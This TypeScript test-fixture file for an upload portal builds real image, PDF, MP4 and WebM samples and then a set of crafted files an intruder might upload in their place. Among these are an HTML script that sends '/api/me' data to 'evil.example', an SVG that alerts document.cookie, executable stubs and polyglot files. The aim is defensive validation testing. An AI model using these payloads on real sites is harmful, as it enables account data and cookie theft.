import { PDFDocument, StandardFonts } from 'pdf-lib'
import sharp from 'sharp'

/**
 * Real small files of every type the portal accepts, made by the libraries that make them in the wild
 * (sharp for images, pdf-lib for PDF) or box by box to the format's specification (MP4, WebM), and
 * the crafted files an intruder sends instead.
 */

const picture = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: { r: 166, g: 27, b: 27 } } })

export const pngFile = (width = 32, height = 24) => picture(width, height).png().toBuffer()
export const jpegFile = (width = 32, height = 24) => picture(width, height).jpeg().toBuffer()
export const webpFile = (width = 32, height = 24) => picture(width, height).webp().toBuffer()

export async function pdfFile(pages = 1): Promise<Buffer> {
  const document = await PDFDocument.create()
  const font = await document.embedFont(StandardFonts.Helvetica)
  for (let i = 1; i <= pages; i++) document.addPage([595, 842]).drawText(`Page ${i}`, { x: 72, y: 760, size: 18, font })
  return Buffer.from(await document.save())
}

// ---- MP4 (ISO/IEC 14496-12), box by box ----

const u32 = (...values: number[]) => Buffer.concat(values.map((v) => { const b = Buffer.alloc(4); b.writeUInt32BE(v >>> 0); return b }))
const u16 = (...values: number[]) => Buffer.concat(values.map((v) => { const b = Buffer.alloc(2); b.writeUInt16BE(v); return b }))
const latin1 = (text: string) => Buffer.from(text, 'latin1')

export function box(type: string, ...parts: Buffer[]): Buffer {
  const body = Buffer.concat(parts)
  return Buffer.concat([u32(8 + body.length), latin1(type), body])
}
const fullBox = (type: string, flags: number, ...parts: Buffer[]) => box(type, u32(flags & 0xFFFFFF), ...parts)
const matrix = u32(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)

function moovBox(samples: number, sampleSize: number, dataOffset: number, handler: 'vide' | 'soun'): Buffer {
  const sampleEntry = handler === 'vide'
    ? box('avc1', Buffer.alloc(6), u16(1), Buffer.alloc(16), u16(16, 16), u32(0x480000, 0x480000, 0), u16(1), Buffer.alloc(32), u16(0x18, 0xFFFF))
    : box('mp4a', Buffer.alloc(6), u16(1), Buffer.alloc(8), u16(2, 16), Buffer.alloc(4), u32(44100 << 16))
  const stbl = box('stbl',
    fullBox('stsd', 0, u32(1), sampleEntry),
    fullBox('stts', 0, u32(1, samples, 1000)),
    fullBox('stsc', 0, u32(1, 1, samples, 1)),
    fullBox('stsz', 0, u32(sampleSize, samples)),
    fullBox('stco', 0, u32(1, dataOffset)))
  const media = box('minf',
    handler === 'vide' ? fullBox('vmhd', 1, Buffer.alloc(8)) : fullBox('smhd', 0, Buffer.alloc(4)),
    box('dinf', fullBox('dref', 0, u32(1), fullBox('url ', 1))),
    stbl)
  return box('moov',
    fullBox('mvhd', 0, u32(0, 0, 1000, samples * 1000, 0x10000), u16(0x100), Buffer.alloc(10), matrix, Buffer.alloc(24), u32(2)),
    box('trak',
      fullBox('tkhd', 3, u32(0, 0, 1, 0, samples * 1000), Buffer.alloc(8), u16(0, 0, handler === 'soun' ? 0x100 : 0, 0), matrix, u32(16 << 16, 16 << 16)),
      box('mdia',
        fullBox('mdhd', 0, u32(0, 0, 1000, samples * 1000), u16(0x55C4, 0)),
        fullBox('hdlr', 0, u32(0), latin1(handler), Buffer.alloc(12), latin1('Handler\0')),
        media)))
}

/** An MP4 with one video (or sound) track whose samples are `payload`, cut in `samples` equal parts. */
export function mp4File(payload: Buffer = Buffer.from(Array.from({ length: 5000 }, (_, i) => i % 251)), { samples = 5, handler = 'vide' as 'vide' | 'soun' } = {}): Buffer {
  const ftyp = box('ftyp', latin1('isom'), u32(0x200), latin1('isomiso2avc1mp41'))
  const sampleSize = samples ? payload.length / samples : 0
  const moovLength = moovBox(samples, sampleSize, 0, handler).length
  const moov = moovBox(samples, sampleSize, ftyp.length + moovLength + 8, handler)
  return Buffer.concat([ftyp, moov, box('mdat', payload)])
}

// ---- WebM (Matroska EBML), element by element ----

const UNKNOWN_SIZE = Buffer.from([0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF])

function element(id: number, ...parts: (Buffer | string | number)[]): Buffer {
  const body = Buffer.concat(parts.map(p => (typeof p === 'string' ? latin1(p) : typeof p === 'number' ? Buffer.from([p]) : p)))
  const hex = id.toString(16)
  const idBytes = Buffer.from(hex.length % 2 ? `0${hex}` : hex, 'hex')
  // The shortest size field, as writers do (a DocType beyond the first 64 bytes is not sniffed).
  const size = body.length < 0x7F ? Buffer.from([0x80 | body.length]) : body.length < 0x3FFF ? u16(0x4000 | body.length) : u32(0x10000000 | body.length)
  return Buffer.concat([idBytes, size, body])
}

/** A WebM with one VP8 video track and one cluster of `frames` blocks; `live` writes sizes as unknown, as MediaRecorder does; `durationMs` states a length. */
export function webmFile({ frames = 3, live = false, durationMs = 0 } = {}): Buffer {
  const header = element(0x1A45DFA3, element(0x4286, 1), element(0x42F7, 1), element(0x42F2, 4), element(0x42F3, 8), element(0x4282, 'webm'), element(0x4287, 2), element(0x4285, 2))
  const duration = Buffer.alloc(8)
  duration.writeDoubleBE(durationMs)
  const info = element(0x1549A966, element(0x2AD7B1, Buffer.from([0x0F, 0x42, 0x40])), ...(durationMs ? [element(0x4489, duration)] : []), element(0x4D80, 'portal-test'), element(0x5741, 'portal-test'))
  const tracks = element(0x1654AE6B, element(0xAE, element(0xD7, 1), element(0x73C5, 1), element(0x83, 1), element(0x86, 'V_VP8'), element(0xE0, element(0xB0, 16), element(0xBA, 16))))
  const blocks = Array.from({ length: frames }, (_, i) => element(0xA3, Buffer.from([0x81, 0, i * 33, 0x80]), Buffer.alloc(64, i)))
  const clusterBody = Buffer.concat([element(0xE7, 0), ...blocks])
  const cluster = live ? Buffer.concat([Buffer.from([0x1F, 0x43, 0xB6, 0x75]), UNKNOWN_SIZE, clusterBody]) : element(0x1F43B675, clusterBody)
  const segmentBody = Buffer.concat([info, tracks, cluster])
  const segment = live ? Buffer.concat([Buffer.from([0x18, 0x53, 0x80, 0x67]), UNKNOWN_SIZE, segmentBody]) : element(0x18538067, segmentBody)
  return Buffer.concat([header, segment])
}

// ---- What an intruder sends instead ----

export const html = latin1('<html><body><script>fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></body></html>\n')
export const exe = Buffer.concat([latin1('MZ'), Buffer.alloc(58), u32(0x80).reverse(), latin1('This program cannot be run in DOS mode.\r\r\n$'), Buffer.alloc(32), latin1('PE\0\0')])
export const zip = Buffer.concat([latin1('PK\x03\x04'), Buffer.alloc(26), latin1('word/document.xml'), html])
export const svg = latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>')

export interface Crafted { name: string, bytes: Buffer, why: string }

/** A valid file's head with the rest cut off, the valid file with HTML after it, and a cut-short one. */
function abused(name: string, valid: Buffer, headLength: number): Crafted[] {
  return [
    { name, bytes: Buffer.concat([valid, html]), why: 'HTML after the end of a valid file' },
    { name, bytes: Buffer.concat([valid.subarray(0, headLength), html]), why: 'a valid header followed by HTML' },
    { name, bytes: valid.subarray(0, headLength), why: 'the header only' },
    { name, bytes: valid.subarray(0, Math.floor(valid.length * 0.6)), why: 'cut short' },
  ]
}

/** Files that must be refused as evidence (PDF, JPG, PNG). */
export async function craftedEvidence(): Promise<Crafted[]> {
  const pdf = await pdfFile()
  return [
    ...abused('营业执照.png', await pngFile(), 33),
    ...abused('现场照片.jpg', await jpegFile(), 20),
    ...abused('授权委托书.pdf', pdf, 15),
    { name: '授权委托书.pdf', bytes: Buffer.concat([latin1('%PDF-1.7\n'), exe]), why: 'a PDF header followed by a Windows program' },
    { name: '授权委托书.pdf', bytes: Buffer.concat([pdf, exe]), why: 'a Windows program after a valid PDF' },
    { name: '营业执照.png', bytes: zip, why: 'a zip named .png' },
    { name: '营业执照.png', bytes: svg, why: 'an SVG with a script' },
  ]
}

/** Files that must be refused as lesson media (JPG, PNG, WebP, MP4, WebM). */
export async function craftedMedia(): Promise<Crafted[]> {
  const mp4 = mp4File()
  return [
    ...abused('封面.webp', await webpFile(), 30),
    ...abused('讲解.mp4', mp4, 32),
    ...abused('讲解.webm', webmFile(), 40),
    { name: '讲解.mp4', bytes: Buffer.concat([mp4.subarray(0, 32), box('mdat', html)]), why: 'an ftyp and an mdat of HTML, no moov' },
    { name: '讲解.mp4', bytes: mp4File(Buffer.alloc(0), { samples: 0 }), why: 'a track without samples' },
    { name: '封面.png', bytes: svg, why: 'an SVG with a script' },
  ]
}
